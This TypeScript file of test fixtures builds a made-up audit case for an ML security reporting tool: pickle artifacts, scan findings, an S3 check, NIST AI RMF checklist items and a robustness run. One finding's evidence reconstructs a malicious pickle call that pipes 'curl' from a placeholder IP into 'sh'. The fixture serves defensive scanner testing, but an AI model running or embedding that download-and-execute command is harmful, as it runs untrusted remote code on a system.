/** Facts of a made-up case for the tests of this room: small by default, as large or as hostile as a test makes it. */
import type { CheckResult } from '#contract/artifacts';
import type { AssessmentDetail } from '#contract/assessments';
import type { ChecklistNode } from '#contract/checklists';
import { type Domain, domains } from '#contract/findings';
import type { ReportArtifact, ReportFinding, ReportInput } from './report-input.ts';

export const digest = (seed: number): string => seed.toString(16).padStart(8, '0').repeat(8);

export function testArtifact(number: number, change: Partial<ReportArtifact> = {}): ReportArtifact {
  return {
    id: number,
    ref: `I-${String(number).padStart(4, '0')}`,
    path: `models/supplier/part-${number}.pkl`,
    sha256: digest(number),
    size: 1000 + number,
    format: 'Pickle, protocol 2',
    kind: 'model',
    outcome: 'scanned',
    outcomeDetail: '',
    verdict: 'clean',
    findings: 0,
    attachment: 'stored',
    importedAt: '2026-11-24T10:00:00.000Z',
    scanners: ['pickle-imports@1'],
    ...change,
  };
}

export function testFinding(number: number, change: Partial<ReportFinding> = {}): ReportFinding {
  const ref = `F-${String(number).padStart(4, '0')}`;
  return {
    ref,
    ruleId: `MDL-PKL-${String(number).padStart(3, '0')}`,
    severity: 'high',
    title: 'Loading the file runs a dangerous function',
    detail: `Loading the file calls posix.system in ${ref}.`,
    place: `models/supplier/part-${number}.pkl ▸ @ 0xb0`,
    domain: 'artifact',
    state: 'proposed',
    origin: 'scan',
    owner: '',
    scanner: 'pickle-imports@1',
    artifactPath: `models/supplier/part-${number}.pkl`,
    artifactSha256: digest(number),
    evidence: {
      reconstruction: 'posix.system("curl -s http://192.0.2.9/stage2.sh | sh")',
      trace: [
        { offset: 0, code: '0x63', name: 'GLOBAL', argument: 'posix system', mark: 'cause' },
        { offset: 14, code: '0x52', name: 'REDUCE', argument: '', mark: 'part' },
      ],
      bytes: { offset: 0xb0, hex: '63706f7369780a73797374656d0a', pins: [{ from: 0xb0, to: 0xb6, strong: true }] },
      fields: [{ pointer: '/module', value: 'posix' }],
    },
    evidenceRef: `E-${String(number).padStart(4, '0')}`,
    evidenceSha256: digest(100_000 + number),
    rationale: 'A pickle is a program for the loader.',
    remediation: 'Do not load this file.',
    references: [{ label: 'CWE-502', url: 'https://cwe.mitre.org/data/definitions/502.html' }],
    controls: [{ framework: 'nist-ai-rmf-1.0', nodes: ['MEASURE 2.7'] }],
    reason: '',
    ...change,
  };
}

export function testCheck(number: number, change: Partial<CheckResult> = {}): CheckResult {
  return {
    checkId: 'AWS-S3-01',
    title: 'Bucket is open to any principal',
    severity: 'critical',
    status: 'PASS',
    message: 'The policy names no foreign principal.',
    asset: `bucket-${number}`,
    pointer: '/Policy',
    ...change,
  };
}

export function testNode(number: number, change: Partial<ChecklistNode> = {}): ChecklistNode {
  return {
    id: `govern-1.${number}`,
    parent: 'govern',
    ref: `GOVERN 1.${number}`,
    title: `Policy ${number}`,
    question: `Is policy ${number} written down?`,
    guidance: '',
    evidenceExpected: '',
    proposed: null,
    decided: null,
    evidence: [],
    ...change,
  };
}

const point = (series: 'clean' | 'noise' | 'square', epsilon: number, value: number) => ({
  series,
  epsilon,
  accuracy: { value, low: Math.max(0, value - 0.04), high: Math.min(1, value + 0.04), n: 500 },
  ...(series === 'square' ? { meanQueries: 120.5, medianQueries: 88 } : {}),
});

export const testRun: AssessmentDetail = {
  id: 1,
  ref: 'A-001',
  title: 'damage_marks.onnx on damage_marks.npz',
  status: 'done',
  statusDetail: '',
  modelPath: 'models/release/damage_marks.onnx',
  modelSha256: digest(777),
  dataPath: 'data/damage_marks.npz',
  dataSha256: digest(778),
  startedAt: '2026-11-24T11:00:00.000Z',
  headline: 'Accuracy falls from 97.2 % to 11.8 % at epsilon 0.1',
  resultSha256: digest(779),
  findingIds: [],
  jobId: null,
  result: {
    plan: {
      seed: 20261124,
      sample: 500,
      epsilons: [0.02, 0.05, 0.1, 0.2],
      noiseRepeats: 3,
      squareQueries: 500,
      clip: [0, 1],
      provider: 'auto',
      floor: 0.4,
      floorEpsilon: 0.1,
    },
    provider: 'cpu',
    device: 'CPU, 2 threads',
    providerChecks: [{ provider: 'cpu', device: 'CPU, 2 threads', usable: true, detail: 'Reference.', relativeSpeed: 1 }],
    runtime: 'onnxruntime 1.30.0',
    classes: 10,
    chance: 0.1,
    sampled: 500,
    available: 2000,
    curve: [
      point('clean', 0, 0.972),
      ...[0.02, 0.05, 0.1, 0.2].map((epsilon) => point('noise', epsilon, 0.97 - epsilon)),
      ...[0.02, 0.05, 0.1, 0.2].map((epsilon, index) => point('square', epsilon, [0.8, 0.43, 0.118, 0.01][index] ?? 0)),
    ],
    worst: [
      {
        row: 17,
        label: 3,
        cleanPrediction: 3,
        cleanConfidence: 0.98,
        attackedPrediction: 8,
        attackedConfidence: 0.61,
        queries: 4,
        epsilon: 0.02,
      },
    ],
    queries: 182_000,
    durationMs: 92_410,
    limits: ['500 of 2000 rows were drawn, stratified by class.', 'A stronger attack may push the accuracy lower.'],
  },
};

const none = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
const labels: Readonly<Record<Domain, string>> = {
  artifact: 'Artifact integrity',
  data: 'Data and labels',
  robustness: 'Robustness',
  access: 'Access and secrets',
  prompt: 'Prompt and output',
  supply: 'Supply chain',
  privacy: 'Privacy',
};

export function testInput(change: Partial<ReportInput> = {}): ReportInput {
  return {
    summary: {
      dir: '/cases/one',
      id: 'C-2026-017',
      client: 'Meridian Health Network',
      name: 'Triage Assist',
      scope: 'Three models and two data sets.\nOut of scope: people, premises.',
      auditor: 'R. Okafor',
      classification: 'RESTRICTED',
      handling: 'Handle under engagement letter 2026-08',
      framework: 'nist-ai-rmf-1.0',
      encrypted: false,
      createdAt: '2026-11-24T09:00:00.000Z',
      counts: { artifacts: 1, findings: 1, answers: 0, reports: 0 },
      log: { entries: 3, head: digest(9) },
    },
    generatedAt: '2026-11-24T14:20:00.000Z',
    draft: false,
    toolVersion: '0.1.0',
    rulesVersion: 'models 1.0.0',
    rulesHash: digest(5),
    artifacts: [testArtifact(1)],
    findings: [testFinding(1)],
    posture: {
      method: 'P-2',
      score: 88,
      band: 'Minor weaknesses',
      bandReason: 'The score lies in the band from 75 to below 90.',
      scoreWithProposed: 76,
      countedFindings: 1,
      proposedFindings: 1,
      formula: '100 − Σ min(weight, 12·C + 4·H + 2·M + 0.5·L) = 88',
      domains: domains.map((domain) => ({ domain, label: labels[domain], weight: 15, counts: none, deducted: 0, capped: false })),
    },
    attention: [],
    methods: [
      { id: 'pickle-imports', version: 1, title: 'Imports in pickle streams', blindSpots: 'Does not see encrypted members.', examined: 1 },
    ],
    assets: { total: 0, byKind: [] },
    checks: [],
    assessments: [],
    checklist: {
      framework: {
        id: 'nist-ai-rmf-1.0',
        title: 'NIST AI RMF 1.0',
        version: '1.0',
        issuer: 'NIST',
        sourceUrl: 'https://doi.org/10.6028/NIST.AI.100-1',
        sha256: digest(6),
      },
      answers: [
        { value: 'yes', key: '1', label: 'Done and recorded', score: 100, needsReason: false },
        { value: 'no', key: '2', label: 'Not done', score: 0, needsReason: false },
      ],
      groups: [{ id: 'govern', parent: null, ref: 'GOVERN', label: 'Govern', level: 0 }],
      nodes: [testNode(1), testNode(2)],
      scores: [{ id: 'govern', label: 'Govern', questions: 2, decided: 0, notApplicable: 0, unknown: 0, proposed: 0, score: null }],
      formula: 'The score is the mean of the levels that a person decided.',
    },
    custody: {
      entries: 3,
      head: digest(9),
      rows: [1, 2, 3].map((seq) => ({
        seq,
        at: '2026-11-24T09:00:00.000Z',
        actor: 'R. Okafor',
        act: 'imported',
        text: `Entry ${seq}`,
        object: '',
        hash: digest(seq),
      })),
    },
    ...change,
  };
}
